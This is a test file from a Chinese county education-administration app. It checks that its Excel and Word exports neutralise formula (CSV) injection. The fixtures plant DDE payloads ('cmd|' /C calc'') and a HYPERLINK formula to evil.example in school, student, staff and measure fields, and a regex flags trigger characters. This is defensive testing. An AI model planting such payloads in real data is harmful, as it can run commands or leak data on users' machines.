import { and, eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { examScore } from "../src/exams/tables";
import { decodeXml } from "../src/excel/sheetXml";
import { openGuardedZip } from "../src/excel/zip";
import { employment, person, school, staff, student } from "../src/registry/tables";
import { type ExamsKit, openExamsKit } from "./examsKit";
import { call, login, type Session, testApp, testClock } from "./harness";
import { TEST_YEAR } from "./template";

/**
 * Formula injection (CSV injection) in exports: text a spreadsheet would take for a formula — starting with =, +, -,
 * @, a tab or a carriage return — reaches every xlsx and docx export with a leading quote, and no exported cell is a
 * formula. The register holds such text here as it could arrive from any source (an old import, another system):
 * a school's name, a student's, a staff member's; the exam's title and the ledger's measures come in through the API.
 */
const SCHOOL = '=HYPERLINK("http://evil.example/?x","北原县第一小学")';
const STUDENT = "+1+cmd|' /C calc'!A0";
const STAFF = "@SUM(1+1)*cmd|' /C calc'!A0";
const EXAM = "-1+1 期末质量检测";
const MEASURES = "-2+3+cmd|' /C calc'!A0 更换灭火器";

/** What a spreadsheet reads as a formula: the OWASP trigger characters, except a plain signed number. */
const unsafe = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^[+-]?(?:\d+(?:\.\d+)?|\.\d+)%?$/.test(text);

let kit: ExamsKit;
const sessions = {} as Record<"renshi" | "anquan", Session>;
let school1Id: string;
let examId: string;

beforeAll(async () => {
  kit = await openExamsKit();
  const { db } = kit.database;
  for (const u of ["renshi", "anquan"] as const) sessions[u] = await login(kit.app, u);
  school1Id = kit.school1Id;
  await db.update(school).set({ name: SCHOOL }).where(eq(school.id, school1Id));
  const [member] = await db
    .select({ personId: staff.personId })
    .from(employment)
    .innerJoin(staff, eq(staff.id, employment.staffId))
    .where(and(eq(employment.schoolId, school1Id), eq(employment.schoolYear, TEST_YEAR)))
    .limit(1);
  await db.update(person).set({ name: STAFF }).where(eq(person.id, member!.personId));
  examId = (await kit.newExam({ name: EXAM })).id;
  const [pupil] = await db
    .select({ personId: student.personId })
    .from(examScore)
    .innerJoin(student, eq(student.id, examScore.studentId))
    .where(and(eq(examScore.examId, examId), eq(examScore.schoolId, school1Id)))
    .limit(1);
  await db.update(person).set({ name: STUDENT }).where(eq(person.id, pupil!.personId));
});
afterAll(() => kit.database.close());

/** Every cell's text of every sheet, asserting on the way that no cell holds a formula. */
async function cellTexts(bytes: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  wb.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        const v = cell.value;
        if (typeof v === "string") texts.push(v);
        else if (v && typeof v === "object" && "richText" in v) texts.push(v.richText.map((r) => r.text).join(""));
      });
    });
  });
  return texts;
}

/** The text of every paragraph of a Word document (table cells' paragraphs included). */
async function paragraphs(bytes: Buffer): Promise<string[]> {
  const xml = (await openGuardedZip(bytes).read("word/document.xml"))!.toString("utf8");
  return [...xml.matchAll(/<w:p[ >][\s\S]*?<\/w:p>/g)].map((p) =>
    [...p[0].matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)].map((t) => decodeXml(t[1]!)).join(""),
  );
}

/** No text starts like a formula, and each payload is there with the quote in front. */
function expectNeutralised(texts: string[], payloads: string[]) {
  expect(texts.filter(unsafe)).toEqual([]);
  for (const p of payloads)
    expect(
      texts.some((t) => t.startsWith(`'${p}`)),
      p,
    ).toBe(true);
}

async function download(session: Session | "jiaoyan" | "leader" | "school1", path: string) {
  if (typeof session === "string") {
    const res = await kit.download(session, path);
    expect(res.status, path).toBe(200);
    return res.bytes;
  }
  const res = await kit.app.request(path, { headers: { cookie: session.cookie } });
  expect(res.status, path).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

describe("register exports", () => {
  it("student list export (学生名单)", async () => {
    const bytes = await download("school1", `/api/registry/exports/students.xlsx?year=${TEST_YEAR}`);
    expectNeutralised(await cellTexts(bytes), [STUDENT, SCHOOL]);
  });

  it("staff list export (教职工名单)", async () => {
    const bytes = await download(sessions.renshi, `/api/registry/exports/staff.xlsx?year=${TEST_YEAR}`);
    expectNeutralised(await cellTexts(bytes), [STAFF, SCHOOL]);
  });

  it("student import template (its list of school names) and the conditions template (schools prefilled)", async () => {
    const students = await download("school1", `/api/registry/templates/students.xlsx?year=${TEST_YEAR}`);
    expectNeutralised(await cellTexts(students), [SCHOOL]);
    const conditions = await download("school1", `/api/registry/templates/conditions.xlsx?year=${TEST_YEAR + 1}`);
    expectNeutralised(await cellTexts(conditions), [SCHOOL]);
  });

  it("import validation report (校验报告), which reads back without the quote when uploaded again", async () => {
    const upload = async (bytes: Buffer) => {
      const form = new FormData();
      form.append("file", new File([new Uint8Array(bytes)], "学生.xlsx"));
      const s = await login(kit.app, "school1");
      const res = await kit.app.request("/api/registry/imports", {
        method: "POST",
        headers: { cookie: s.cookie, "x-csrf-token": s.csrf },
        body: form,
      });
      expect(res.status).toBe(201);
      return (await res.json()) as { job: { id: string }; problems: { column: string; value: string }[] };
    };
    const template = await download("school1", `/api/registry/templates/students.xlsx?year=${TEST_YEAR}`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(template as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet("学生信息")!;
    sheet.getRow(3).values = ["=1+1", "男", "2019-05-01", "汉族", "", "", "城镇"];
    const first = await upload(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(first.problems.find((p) => p.column === "姓名")?.value).toBe("=1+1");
    const report = await download("school1", `/api/registry/imports/${first.job.id}/report.xlsx`);
    expectNeutralised(await cellTexts(report), ["=1+1"]);
    const again = await upload(report);
    expect(again.problems.find((p) => p.column === "姓名")?.value).toBe("=1+1");
  });
});

describe("balance reports", () => {
  it("monitoring tables workbook (均衡发展监测表)", async () => {
    const bytes = await download("leader", `/api/balance/report.xlsx?year=${TEST_YEAR}&stage=primary`);
    expectNeutralised(await cellTexts(bytes), [SCHOOL]);
  });

  it("Word report", async () => {
    const bytes = await download("leader", `/api/balance/report.docx?year=${TEST_YEAR}&stage=primary`);
    expectNeutralised(await paragraphs(bytes), [SCHOOL]);
  });
});

describe("exam exports", () => {
  it("score import template (成绩导入模板)", async () => {
    const bytes = await download("jiaoyan", `/api/exams/${examId}/template.xlsx`);
    expectNeutralised(await cellTexts(bytes), [STUDENT, SCHOOL]);
  });

  it("考号名单", async () => {
    const bytes = await download("jiaoyan", `/api/exams/${examId}/roster.xlsx`);
    expectNeutralised(await cellTexts(bytes), [STUDENT, SCHOOL]);
  });

  it("score import validation report", async () => {
    const [row] = await kit.roster("school1", examId);
    const up = await kit.upload("school1", examId, `学籍号,姓名,语文\n${row!.studentNumber},@张三,120\n`, "a.csv");
    expect(up.status).toBe(201);
    const bytes = await download("school1", `/api/exams/${examId}/imports/${up.body.job.id}/report.xlsx`);
    expectNeutralised(await cellTexts(bytes), ["@张三"]);
  });

  it("county tables workbook and a school's Word report, after publishing", async () => {
    const rows = await kit.roster("jiaoyan", examId);
    const lines = [
      "学籍号,语文,数学,数学-1,数学-2",
      ...rows.map((r, i) => `${r.studentNumber},${60 + (i % 40)},70,30,40`),
    ];
    const up = await kit.upload("jiaoyan", examId, lines.join("\n"), "全县.csv");
    expect(up.body.summary.errors).toBe(0);
    expect((await kit.as("jiaoyan", "POST", `/api/exams/${examId}/imports/${up.body.job.id}/commit`)).status).toBe(200);
    expect((await kit.as("jiaoyan", "POST", `/api/exams/${examId}/publish`)).status).toBe(200);
    const tables = await download("leader", `/api/exams/${examId}/tables.xlsx`);
    expectNeutralised(await cellTexts(tables), [EXAM, SCHOOL]);
    const report = await download("school1", `/api/exams/${examId}/schools/${school1Id}/report.docx`);
    expectNeutralised(await paragraphs(report), [SCHOOL]);
  });
});

describe("ledger exports", () => {
  let inspectionId: string;

  beforeAll(async () => {
    const as = (method: string, path: string, body?: unknown) => call(kit.app, sessions.anquan, method, path, body);
    const types = (await as("GET", "/api/ledger/types")).body.rows;
    const created = await as("POST", "/api/ledger/inspections", {
      typeId: types.find((t: any) => t.kind === "hazard").id,
      title: "冬季防火安全隐患排查",
      inspectedOn: `${TEST_YEAR}-11-18`,
      inspectors: ["陈刚"],
      schoolIds: [school1Id],
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    inspectionId = created.body.id;
    const detail = await as("GET", `/api/ledger/inspections/${inspectionId}`);
    const raised = await as("POST", `/api/ledger/inspections/${inspectionId}/findings`, {
      targetIds: [detail.body.targets[0].id],
      category: "消防安全",
      description: "教学楼三楼灭火器过期2具",
      severity: "major",
      responsiblePerson: "张校长",
      deadline: `${TEST_YEAR}-12-30`,
      measures: MEASURES,
    });
    expect(raised.status, JSON.stringify(raised.body)).toBe(201);
  });

  it("整改台账 workbook", async () => {
    const bytes = await download(sessions.anquan, "/api/ledger/findings/export.xlsx?kind=hazard");
    expectNeutralised(await cellTexts(bytes), [SCHOOL, MEASURES]);
  });

  it("通报 Word document", async () => {
    const bytes = await download(sessions.anquan, `/api/ledger/inspections/${inspectionId}/notice.docx`);
    expectNeutralised(await paragraphs(bytes), [SCHOOL]);
  });
});

describe("admissions exports", () => {
  it("printable class lists of an allocation (分班名单)", async () => {
    // an admissions event runs at its published time: this app's clock stands on the event's day
    const { app } = testApp(kit.database, testClock(new Date(`${TEST_YEAR}-08-28T01:00:00Z`)));
    const s = await login(app, "zhaosheng");
    const list = new ExcelJS.Workbook();
    const ws = list.addWorksheet("名单");
    ws.addRow(["姓名", "性别", "特殊需要"]);
    for (const [name, gender] of [
      ["@张三", "男"],
      ["李四", "女"],
      ["\t=王五", "男"],
      ["赵六", "女"],
    ])
      ws.addRow([name, gender, "否"]);
    const form = new FormData();
    form.append("file", new File([new Uint8Array(await list.xlsx.writeBuffer())], "名单.xlsx"));
    const settings = {
      title: "=七年级阳光分班",
      eventTime: `${TEST_YEAR}-08-28T09:00:00+08:00`,
      classes: 2,
      balance: [],
    };
    form.append("settings", JSON.stringify(settings));
    const created = await app.request("/api/admissions/uploads/allocation", {
      method: "POST",
      headers: { cookie: s.cookie, "x-csrf-token": s.csrf },
      body: form,
    });
    const id = ((await created.json()) as { id: string }).id;
    expect(created.status).toBe(201);
    const as = (method: string, path: string, body?: unknown) => call(app, s, method, path, body);
    expect((await as("POST", `/api/admissions/events/${id}/freeze`)).status).toBe(200);
    for (const [role, name, value] of [
      ["家长代表", "王女士", "4721"],
      ["纪检监察", "李先生", "9083"],
    ]) {
      expect((await as("POST", `/api/admissions/events/${id}/contributions`, { role, name, value })).status).toBe(200);
    }
    expect((await as("POST", `/api/admissions/events/${id}/run`)).status).toBe(200);
    const res = await app.request(`/api/admissions/events/${id}/class-lists.xlsx`, { headers: { cookie: s.cookie } });
    expect(res.status).toBe(200);
    const texts = await cellTexts(Buffer.from(await res.arrayBuffer()));
    expectNeutralised(texts, ["@张三", "=七年级阳光分班"]);
    // a name starting with a tab is trimmed by the list reader; what is left starts with "=" and is neutralised
    expect(texts).toContain("'=王五");
  });
});
